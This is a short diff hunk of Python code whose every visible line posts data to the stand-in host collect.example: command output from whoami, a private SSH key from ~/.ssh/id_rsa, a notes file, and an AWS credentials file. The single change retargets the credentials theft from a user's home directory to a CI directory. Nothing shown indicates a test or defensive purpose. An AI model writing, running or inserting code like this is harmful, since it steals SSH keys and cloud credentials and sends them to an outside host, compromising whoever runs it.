@@ -11,4 +11,4 @@ requests.post("https://collect.example/c", data=subprocess.check_output(["whoami
 with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:
     requests.post("https://collect.example/d", data=handle.read())
 requests.post("https://collect.example/e", data=open("notes.txt").read())
-requests.post("https://collect.example/f", files={"x": open("/home/user/.aws/credentials", "rb")})
+requests.post("https://collect.example/f", files={"x": open("/var/lib/ci/.aws/credentials", "rb")})
